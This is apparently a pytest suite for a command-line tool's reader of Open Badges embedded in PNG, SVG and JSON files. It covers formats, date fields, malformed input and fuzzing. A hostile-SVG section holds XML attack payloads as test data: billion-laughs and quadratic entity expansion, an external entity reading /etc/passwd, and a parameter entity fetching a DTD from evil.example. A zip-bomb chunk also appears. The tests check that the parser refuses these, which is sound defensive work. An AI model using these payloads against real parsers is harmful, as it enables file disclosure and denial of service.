"""Reading baked Open Badges: formats, fields, hostile and damaged files."""

from __future__ import annotations

import json
import zlib
from dataclasses import replace
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from onepoints_cli.domain.badges import (
    MAX_FILE_BYTES,
    MAX_METADATA_BYTES,
    OB1,
    OB2,
    OB3,
    BadgeInfo,
    is_certification,
    parse_badge,
)
from onepoints_cli.errors import OnePointsError
from onepoints_cli.storage.badge_files import read_badge
from tests.support import badge_factory as bf
from tests.support.paths import BADGES
from tests.support.worded import refused

CREDLY_ISSUER = {
    "id": "https://www.credly.com/org/onestream",
    "type": ["Profile"],
    "name": "OneStream Software",
}
ASSOCIATE = "OneStream Certified Associate"
BADGE_CLASS_URL = "https://api.credly.com/v1/obi/v2/badge_classes/abcd"
ACHIEVEMENT_URL = "https://www.credly.com/org/onestream/badge/certified-associate"

#: Published test badges, with their licences (tests/fixtures/badges/README.md).
FIXTURES = BADGES


def info(**fields) -> BadgeInfo:
    """A BadgeInfo with `missing` worked out the way the reader does."""
    values = {"name": None, "issued": None, "expires": None, "issuer": None, "badge_url": None} | fields
    missing = tuple(
        key for key in ("name", "issued", "expires", "issuer", "badge_url") if values[key] is None
    )
    return BadgeInfo(**values, missing=missing)


# --- Formats ---------------------------------------------------------------------------

OB2_EMBEDDED = bf.ob2_assertion(
    bf.ob2_badge_class(ASSOCIATE, "OneStream Software"),
    issuedOn="2024-03-15T10:00:00Z",
    expires="2026-03-15T23:59:59Z",
)
OB2_CREDLY = bf.ob2_assertion("https://api.credly.com/v1/obi/v2/badge_classes/abcd", issuedOn="2024-03-15")
OB3_JSON = bf.ob3_credential(
    ASSOCIATE, CREDLY_ISSUER, validFrom="2024-03-15T10:00:00Z", validUntil="2026-03-15T00:00:00Z"
)
#: VC-JWT: the credential, without dates, under `vc`; the dates are the claims.
OB3_VC_CLAIMS = {
    "vc": bf.ob3_credential("Workflow Essentials", "https://www.credly.com/org/onestream"),
    "iss": "https://www.credly.com/org/onestream",
    "nbf": 1710496800,  # 2024-03-15T10:00:00Z
    "exp": 1773532800,  # 2026-03-15T00:00:00Z
}
OB3_JWT_CREDENTIAL = bf.ob3_credential(
    ASSOCIATE, CREDLY_ISSUER, validFrom="2024-03-15T10:00:00Z", nbf=1262304000, iat=1712236160
)

EMBEDDED_INFO = info(
    name=ASSOCIATE,
    issued=date(2024, 3, 15),
    expires=date(2026, 3, 15),
    issuer="OneStream Software",
    badge_url=BADGE_CLASS_URL,
    spec=OB2,
    signed=False,
)
CREDLY_OB2_INFO = info(issued=date(2024, 3, 15), badge_url=BADGE_CLASS_URL, spec=OB2, signed=False)
OB3_INFO = info(
    name=ASSOCIATE,
    issued=date(2024, 3, 15),
    expires=date(2026, 3, 15),
    issuer="OneStream Software",
    badge_url=ACHIEVEMENT_URL,
    spec=OB3,
    signed=False,
)

#: What a badge made of OB3_VC_CLAIMS gives (its claims name no issuer).
VC_CLAIMS_INFO = info(
    name="Workflow Essentials",
    issued=date(2024, 3, 15),
    expires=date(2026, 3, 15),
    badge_url=ACHIEVEMENT_URL,
    spec=OB3,
    signed=True,
)

FORMAT_CASES = {
    "png-ob2-embedded-before-idat": (
        bf.png(bf.itxt("openbadges", json.dumps(OB2_EMBEDDED))),
        EMBEDDED_INFO,
    ),
    "png-ob2-credly-badge-url-after-idat": (
        bf.png(bf.itxt("openbadges", json.dumps(OB2_CREDLY)), after_idat=True),
        CREDLY_OB2_INFO,
    ),
    "png-ob2-compressed-itxt": (
        bf.png(bf.itxt("openbadges", json.dumps(OB2_EMBEDDED), compressed=True)),
        EMBEDDED_INFO,
    ),
    "png-ob2-jws": (
        bf.png(bf.itxt("openbadges", bf.jws(OB2_EMBEDDED))),
        replace(EMBEDDED_INFO, signed=True),
    ),
    "png-ob3-json-valid-until": (
        bf.png(bf.itxt("openbadgecredential", json.dumps(OB3_JSON)), after_idat=True),
        OB3_INFO,
    ),
    "png-ob3-jws-vc-claims": (
        bf.png(bf.itxt("openbadgecredential", bf.jws(OB3_VC_CLAIMS))),
        VC_CLAIMS_INFO,
    ),
    "png-ob3-jwt-payload-is-credential": (
        bf.png(bf.itxt("openbadgecredential", bf.jws(OB3_JWT_CREDENTIAL)), after_idat=True),
        info(
            name=ASSOCIATE,
            issued=date(2024, 3, 15),  # validFrom wins over nbf
            issuer="OneStream Software",
            badge_url=ACHIEVEMENT_URL,
            spec=OB3,
            signed=True,
        ),
    ),
    "png-3.0-chunk-preferred-over-2.0": (
        bf.png(
            bf.itxt("openbadges", json.dumps(OB2_CREDLY)),
            bf.itxt("openbadgecredential", json.dumps(OB3_JSON)),
        ),
        OB3_INFO,
    ),
    "png-legacy-text-url": (
        bf.png(bf.text_chunk("openbadges", "https://example.org/assertions/42.json")),
        info(badge_url="https://example.org/assertions/42.json", spec=OB1, signed=False),
    ),
    "png-itxt-hosted-url": (
        bf.png(bf.itxt("openbadges", "https://example.org/assertions/42.json")),
        info(badge_url="https://example.org/assertions/42.json", spec=OB2, signed=False),
    ),
    "svg-ob2-cdata-json": (
        bf.svg(
            '<openbadges:assertion verify="https://api.credly.com/v1/obi/v2/badge_assertions/1234">'
            f"<![CDATA[{json.dumps(OB2_EMBEDDED)}]]></openbadges:assertion>"
        ),
        EMBEDDED_INFO,
    ),
    "svg-ob2-json-text-with-escapes": (
        bf.svg(
            "<openbadges:assertion>"
            + json.dumps(OB2_EMBEDDED).replace("&", "&amp;").replace("<", "&lt;")
            + "</openbadges:assertion>"
        ),
        EMBEDDED_INFO,
    ),
    "svg-ob3-jws-in-verify-other-prefix": (
        bf.svg(
            f'<ob3:credential verify="{bf.jws(OB3_VC_CLAIMS)}"></ob3:credential>',
            prefix="ob3",
            namespace=bf.OB3_NAMESPACE,
        ),
        VC_CLAIMS_INFO,
    ),
    "svg-ob3-cdata-json": (
        bf.svg(
            f"<openbadges:credential><![CDATA[{json.dumps(OB3_JSON)}]]></openbadges:credential>",
            namespace=bf.OB3_NAMESPACE,
        ),
        OB3_INFO,
    ),
    "svg-hosted-url-only": (
        bf.svg('<openbadges:assertion verify="https://example.org/assertions/42.json"/>'),
        info(badge_url="https://example.org/assertions/42.json", spec=OB2, signed=False),
    ),
    "svg-doctype-with-simple-entity": (
        bf.svg(
            f'<openbadges:assertion verify="&hosted;"><![CDATA[{json.dumps(OB2_CREDLY)}]]></openbadges:assertion>',
            doctype='<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
            '"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" '
            '[<!ENTITY hosted "https://example.org/a.json"> <!ENTITY ns_ai "http://ns.adobe.com/AI/10.0/">]>',
        ),
        CREDLY_OB2_INFO,
    ),
    "json-file-ob3": (json.dumps(OB3_JSON, indent=2).encode(), OB3_INFO),
    "json-file-with-bom": (b"\xef\xbb\xbf\n" + json.dumps(OB2_EMBEDDED).encode(), EMBEDDED_INFO),
}


@pytest.mark.parametrize("data, expected", FORMAT_CASES.values(), ids=FORMAT_CASES.keys())
def test_reads_each_format(data: bytes, expected: BadgeInfo) -> None:
    assert parse_badge(data, "badge.file") == expected


def test_credly_style_badge_reports_name_missing() -> None:
    badge = parse_badge(bf.png(bf.itxt("openbadges", json.dumps(OB2_CREDLY))), "credly.png")
    assert badge.name is None
    assert "name" in badge.missing


def test_ob3_never_takes_the_top_level_name() -> None:
    credential = bf.ob3_credential("ignored", CREDLY_ISSUER)
    del credential["credentialSubject"]["achievement"]["name"]
    badge = parse_badge(bf.png(bf.itxt("openbadgecredential", json.dumps(credential))), "x.png")
    assert badge.name is None and "name" in badge.missing  # not "Jane Doe"


def test_ob3_issuer_as_url_is_no_issuer_name() -> None:
    credential = bf.ob3_credential(ASSOCIATE, "https://www.credly.com/org/onestream")
    assert parse_badge(json.dumps(credential).encode(), "x.json").issuer is None


def test_svg_element_in_the_wrong_namespace_is_not_a_badge() -> None:
    data = bf.svg(
        f"<openbadges:assertion>{json.dumps(OB2_EMBEDDED)}</openbadges:assertion>", namespace="urn:other"
    )
    with refused("fake.svg.*without Open Badges metadata"):
        parse_badge(data, "fake.svg")


def test_svg_entities_in_text_are_not_expanded() -> None:
    data = bf.svg(
        "<openbadges:assertion>&secret;https://example.org/a.json</openbadges:assertion>",
        doctype='<!DOCTYPE svg [<!ENTITY secret "https://evil.example/">]>',
    )
    assert parse_badge(data, "e.svg").badge_url == "https://example.org/a.json"


BILLION_LAUGHS = (
    "<!DOCTYPE svg [\n"
    '<!ENTITY lol "lol">\n'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1 if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10)
    )
    + "]>"
)
HOSTILE_SVG = {
    "billion-laughs-in-text": bf.svg(
        "<openbadges:assertion>&lol9;</openbadges:assertion>", doctype=BILLION_LAUGHS
    ),
    "billion-laughs-in-attribute": bf.svg('<openbadges:assertion verify="&lol9;"/>', doctype=BILLION_LAUGHS),
    "external-entity": bf.svg(
        '<openbadges:assertion verify="&xxe;"/>',
        doctype='<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ),
    "parameter-entity": bf.svg(
        "<openbadges:assertion/>",
        doctype='<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
    ),
    "quadratic-blowup-in-attribute": bf.svg(
        '<openbadges:assertion verify="' + "&big;" * 200_000 + '"/>',
        doctype=f'<!DOCTYPE svg [<!ENTITY big "{"x" * 1000}">]>',
    ),
    "long-entity": bf.svg(
        '<openbadges:assertion verify="&big;&big;"/>',
        doctype=f'<!DOCTYPE svg [<!ENTITY big "{"x" * 5000}">]>',
    ),
}


@pytest.mark.parametrize("data", HOSTILE_SVG.values(), ids=HOSTILE_SVG.keys())
def test_hostile_svg_is_refused_before_any_expansion(data: bytes) -> None:
    # Refused at the declaration, so expat never gets to expand anything.
    with refused("^hostile.svg declares .* refuses such files"):
        parse_badge(data, "hostile.svg")


# --- Fields ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value, expected",
    [
        ("2016-12-31T23:59:59Z", date(2016, 12, 31)),
        ("2016-12-31T23:59:59.123456789Z", date(2016, 12, 31)),
        ("2016-12-31t23:59:59z", date(2016, 12, 31)),
        ("2016-12-31T20:30:00-05:00", date(2017, 1, 1)),  # the UTC date
        ("2017-01-01T01:00:00+02:00", date(2016, 12, 31)),
        ("2016-12-31", date(2016, 12, 31)),
        (1483228799, date(2016, 12, 31)),
        ("1483228800", date(2017, 1, 1)),
        (1483228799.5, date(2016, 12, 31)),
    ],
)
def test_date_forms(value, expected: date) -> None:
    data = json.dumps(bf.ob2_assertion(BADGE_CLASS_URL, issuedOn=value, expires=value)).encode()
    badge = parse_badge(data, "d.json")
    assert (badge.issued, badge.expires) == (expected, expected)


@pytest.mark.parametrize("value", ["next year", "2016-13-01", True, {"date": "2016-01-01"}, "9" * 30])
def test_unreadable_date_is_an_error_naming_the_file(value) -> None:
    data = json.dumps(bf.ob2_assertion(BADGE_CLASS_URL, expires=value)).encode()
    with refused(r"d\.json: the badge's expiry date"):
        parse_badge(data, "d.json")


def test_ob1_assertion_takes_verify_url_when_badge_is_missing_an_id() -> None:
    assertion = {
        "uid": "1",
        "badge": {"name": "Old Badge"},
        "verify": {"type": "hosted", "url": "https://x.org/a"},
    }
    badge = parse_badge(json.dumps(assertion).encode(), "old.json")
    assert (badge.spec, badge.name, badge.badge_url) == (OB1, "Old Badge", "https://x.org/a")


@pytest.mark.parametrize(
    "name, certification",
    [
        ("OneStream Certified Associate", True),
        ("OneStream Certified Professional - Planning", True),
        ("OneStream Certification: Financial Close", True),
        ("OneStream Workflow Essentials", False),
        ("Platform Foundations micro-credential", False),
        ("ONESTREAM CERTIFIED ASSOCIATE", True),  # case aside
        ("onestream certification: planning", True),
        ("OneStream\u00a0Certi fied\tAssociate", True),  # spacing aside
        ("ＯｎｅＳｔｒｅａｍ ＣＥＲＴＩＦＩＥＤ Associate", True),  # full-width letters (NFKC)
        ("Financial Close Essentials", False),
        ("OneStream Certificate of Attendance", False),  # neither word
    ],
)
def test_is_certification(name: str, certification: bool) -> None:
    assert is_certification(name) is certification


# --- Malformed files -------------------------------------------------------------------------------

GOOD_PNG = bf.png(bf.itxt("openbadges", json.dumps(OB2_CREDLY)))
IEND_AT = len(GOOD_PNG) - 12


def _flip_crc(data: bytes) -> bytes:
    """GOOD_PNG with the last byte of its iTXt chunk's CRC changed."""
    start = data.index(b"iTXt") - 4
    length = int.from_bytes(data[start : start + 4], "big")
    crc_end = start + 12 + length
    return data[: crc_end - 1] + bytes([data[crc_end - 1] ^ 0xFF]) + data[crc_end:]


def _long_chunk(data: bytes) -> bytes:
    """The iTXt chunk's length field raised past the end of the file."""
    start = data.index(b"iTXt") - 4
    return data[:start] + (10_000_000).to_bytes(4, "big") + data[start + 4 :]


MALFORMED = {
    "not-a-badge": (b"GIF89a\x01\x00\x01\x00", "not a badge file"),
    "empty": (b"", "is empty"),
    "png-signature-mangled": (b"\x89PNG\n\x1a\n" + GOOD_PNG[8:], "signature"),
    "png-truncated-mid-chunk": (GOOD_PNG[: len(GOOD_PNG) // 2], "truncated"),
    "png-truncated-before-iend": (GOOD_PNG[:IEND_AT], "truncated"),
    "png-chunk-length-past-end": (_long_chunk(GOOD_PNG), "past the end"),
    "png-crc-mismatch": (_flip_crc(GOOD_PNG), "CRC"),
    "png-bad-chunk-type": (GOOD_PNG[:12] + b"1234" + GOOD_PNG[16:], "no valid chunk"),
    "png-zip-bomb": (
        bf.png(bf.itxt("openbadges", b" " * (MAX_METADATA_BYTES + 10), compressed=True)),
        "larger than",
    ),
    "png-oversized-text": (bf.png(bf.itxt("openbadges", b" " * (MAX_METADATA_BYTES + 1))), "larger than"),
    "png-corrupt-zlib": (
        bf.png(bf.chunk(b"iTXt", b"openbadges\0\x01\x00\0\0" + b"not zlib at all")),
        "cannot be decompressed",
    ),
    "png-cut-zlib": (
        bf.png(bf.chunk(b"iTXt", b"openbadges\0\x01\x00\0\0" + zlib.compress(b"{}" * 1000)[:-6])),
        "cut short",
    ),
    "png-unknown-compression": (
        bf.png(bf.chunk(b"iTXt", b"openbadges\0\x02\x00\0\0{}")),
        "unknown compression",
    ),
    "png-itxt-no-separators": (bf.png(bf.chunk(b"iTXt", b"openbadges\0\x00\x00")), "malformed"),
    "png-invalid-utf8": (bf.png(bf.itxt("openbadges", b'{"badge": "\xff\xfe"}')), "not valid UTF-8"),
    "png-invalid-json": (bf.png(bf.itxt("openbadges", '{"badge": ')), "not valid JSON"),
    "png-json-empty-object": (bf.png(bf.itxt("openbadges", "{}")), "neither 'badge'"),
    "png-json-not-object": (bf.png(bf.itxt("openbadges", bf.jws([1, 2]))), "not an object"),
    "png-deep-json": (bf.png(bf.itxt("openbadges", '{"a":' + "[" * 100_000 + "]" * 100_000 + "}")), "JSON"),
    "png-no-badge-chunk": (bf.png(bf.text_chunk("Software", "GIMP")), "without Open Badges metadata"),
    "png-garbage-text": (bf.png(bf.itxt("openbadges", "hello world")), "neither JSON"),
    "png-jws-bad-payload": (bf.png(bf.itxt("openbadges", "eyJhbGciOiJub25lIn0.e.sig")), "base64url"),
    "png-jws-payload-not-json": (bf.png(bf.itxt("openbadges", bf.jws(b"hello"))), "not valid JSON"),
    "svg-not-well-formed": (b"<svg><openbadges:assertion></svg>", "not a well-formed"),
    "svg-no-badge": (bf.svg("<g/>"), "without Open Badges metadata"),
    "svg-empty-badge": (bf.svg("<openbadges:assertion></openbadges:assertion>"), "empty"),
    "json-badge-class": (json.dumps(bf.ob2_badge_class(ASSOCIATE, "x")).encode(), "not an award"),
    "json-not-a-badge": (b'{"hello": "world"}', "not an Open Badges"),
    "json-array": (b"[1, 2]", "not a badge file"),
    "json-invalid-utf8": (b'{"badge": "\xff"}', "not valid UTF-8"),
}


@pytest.mark.parametrize("data, message", MALFORMED.values(), ids=MALFORMED.keys())
def test_malformed_file_is_a_clear_error(data: bytes, message: str) -> None:
    with refused() as raised:
        parse_badge(data, "my-badge.png")
    assert "my-badge.png" in raised.text
    assert message in raised.text


@settings(max_examples=150, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])
@given(position=st.integers(min_value=0, max_value=len(GOOD_PNG) - 1), byte=st.integers(0, 255))
def test_any_corrupted_byte_gives_a_badge_or_a_clear_error(position: int, byte: int) -> None:
    data = GOOD_PNG[:position] + bytes([byte]) + GOOD_PNG[position + 1 :]
    try:
        parse_badge(data, "fuzz.png")
    except OnePointsError as error:
        assert "fuzz.png" in str(error)


@settings(max_examples=150, deadline=None, database=None)
@given(st.binary(max_size=300) | st.text(max_size=300).map(lambda text: ("<svg>" + text).encode()))
def test_any_bytes_give_a_badge_or_a_clear_error(data: bytes) -> None:
    for prefix in (b"", bf.PNG_SIGNATURE, b"{"):
        try:
            parse_badge(prefix + data, "fuzz.bin")
        except OnePointsError as error:
            assert "fuzz.bin" in str(error)


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)
BADGE_KEYS = [
    "@context",
    "type",
    "badge",
    "name",
    "id",
    "issuer",
    "credentialSubject",
    "issuedOn",
    "validFrom",
    "issuanceDate",
    "expires",
    "validUntil",
    "expirationDate",
    "verify",
    "vc",
    "nbf",
    "exp",
]


@settings(max_examples=60, deadline=None, database=None)
@given(st.dictionaries(st.sampled_from(BADGE_KEYS), JSON_VALUES, max_size=8), st.booleans())
def test_any_json_shape_gives_a_badge_or_a_clear_error(document: dict, signed: bool) -> None:
    text = bf.jws(document) if signed else json.dumps(document)
    try:
        parse_badge(bf.png(bf.itxt("openbadgecredential", text)), "shape.png")
    except OnePointsError as error:
        assert "shape.png" in str(error)


# --- Files on disk ---------------------------------------------------------------------------------


def test_read_badge_from_file(tmp_path: Path) -> None:
    path = bf.write(tmp_path, "associate.png", bf.png(bf.itxt("openbadges", json.dumps(OB2_EMBEDDED))))
    assert read_badge(path) == EMBEDDED_INFO


def test_read_badge_errors_name_the_file(tmp_path: Path) -> None:
    with refused("not found: .*nothing.png"):
        read_badge(tmp_path / "nothing.png")
    with refused("folder"):
        read_badge(tmp_path)
    huge = tmp_path / "huge.png"
    with open(huge, "wb") as handle:
        handle.truncate(MAX_FILE_BYTES + 1)  # sparse: nothing is written
    with refused("huge.png is larger than 20 MB"):
        read_badge(huge)


# --- Published badges (tests/fixtures/badges, see its README.md) -------------------------------

PUBLISHED = {
    "ob20_hosted_json.png": (None, date(2016, 12, 31), None, OB2, "https://example.org/robotics-badge.json"),
    "ob30_json.png": ("Teamwork", date(2010, 1, 1), "Example Corp", OB3, None),
    "ob30_jwt_vc11.png": ("Teamwork", date(2010, 1, 1), "Example University", OB3, None),
    "ob30_jwt.svg": ("Teamwork", date(2010, 1, 1), "Example Corp", OB3, None),
    "ob1_assertion.svg": (None, date(2013, 11, 5), None, OB1, "https://example.org/badge.json"),
}


@pytest.mark.skipif(not FIXTURES.is_dir(), reason=f"published badges not found at {FIXTURES}")
@pytest.mark.parametrize("file_name", PUBLISHED.keys())
def test_published_badges(file_name: str) -> None:
    name, issued, issuer, spec, badge_url = PUBLISHED[file_name]
    badge = read_badge(FIXTURES / file_name)
    assert (badge.name, badge.issued, badge.expires, badge.issuer, badge.spec) == (
        name,
        issued,
        None,
        issuer,
        spec,
    )
    assert "expires" in badge.missing
    assert badge.signed is (spec == OB3)  # a JWS or a DataIntegrityProof, not verified
    if badge_url:
        assert badge.badge_url == badge_url
    if name is None:
        assert "name" in badge.missing
